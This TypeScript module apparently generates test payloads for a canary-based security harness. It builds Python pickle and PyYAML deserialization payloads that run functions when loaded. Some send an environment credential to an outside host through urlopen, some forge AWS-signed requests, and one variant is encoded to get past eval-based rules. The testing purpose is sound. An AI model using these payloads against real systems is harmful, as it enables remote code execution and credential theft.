import { deflateSync } from 'node:zlib';
import type { CanaryCall, EffectName, Form, Subject, Target } from '../subject.ts';
import { headers, scope, snippetsFor } from './code.ts';

/** A pickle, in protocol 0, that calls functions while it is read. Source: CPython, Lib/pickletools.py. */
type Pickled = string;

const text = (value: string): Pickled => `S'${value.replaceAll(/[\\']/g, '\\$&').replaceAll('\n', '\\n')}'\n`;
const number = (value: number): Pickled => `I${value}\n`;
const nothing: Pickled = 'N';
const name = (module: string, attribute: string): Pickled => `c${module}\n${attribute}\n`;
const call = (callee: Pickled, ...args: readonly Pickled[]): Pickled => `${callee}(${args.join('')}tR`;
const mapping = (entries: readonly (readonly [string, Pickled])[]): Pickled =>
  `(${entries.map(([key, value]) => text(key) + value).join('')}d`;

const joined = (a: Pickled, b: Pickled): Pickled => call(name('operator', 'add'), a, b);
const bytes = (value: Pickled): Pickled => call(name('_codecs', 'encode'), value, text('latin1'));
const env = (variable: string): Pickled =>
  call(name('operator', 'getitem'), name('os', 'environ'), text(variable));
const open = (request: Pickled): Pickled => call(name('urllib.request', 'urlopen'), request);

/**
 * Returns pickles that only call functions. They evaluate no text as code, so a rule about `eval` does not stop them.
 */
export function pickleForms(subject: Subject, target: Target): readonly Form[] {
  const pickleFor = (effect: EffectName): string => `${acts(effect, subject, target)}.`;
  return [
    { says: 'in Base64', text: (effect) => Buffer.from(pickleFor(effect), 'latin1').toString('base64') },
    { says: 'as text', text: pickleFor },
    {
      says: 'deflated, in Base64',
      text: (effect) => deflateSync(Buffer.from(pickleFor(effect), 'latin1')).toString('base64'),
    },
    // Source: PyYAML 6.0, yaml/constructor.py, UnsafeConstructor.
    {
      says: 'as a call that YAML makes',
      text: (effect) =>
        `!!python/object/apply:eval [${JSON.stringify(snippetsFor(subject, target).expressionFor(effect))}]`,
    },
  ];
}

function acts(effect: EffectName, { calls, credential }: Subject, target: Target): Pickled {
  const wanted = effect === 'needed' ? calls.needed : effect === 'excess' ? calls.excess : null;
  if (wanted) return open(request(wanted, target));
  if (effect === 'internet') return open(joined(text(`${target.outside}/${target.token}?`), env(credential)));
  return call(name('os', 'write'), number(1), bytes(joined(text(target.token), text(':code\n'))));
}

const request = (wanted: CanaryCall, target: Target): Pickled =>
  call(
    name('urllib.request', 'Request'),
    joined(env('AWS_ENDPOINT_URL'), text(wanted.path)),
    wanted.body === '' ? nothing : bytes(text(wanted.body)),
    mapping([
      ...Object.entries(headers(wanted)).map(([key, value]) => [key, text(value)] as const),
      [
        'authorization',
        joined(
          joined(text('AWS4-HMAC-SHA256 Credential='), env('AWS_ACCESS_KEY_ID')),
          text(scope(wanted, target)),
        ),
      ],
    ]),
    nothing,
    'I00\n',
    text(wanted.method),
  );
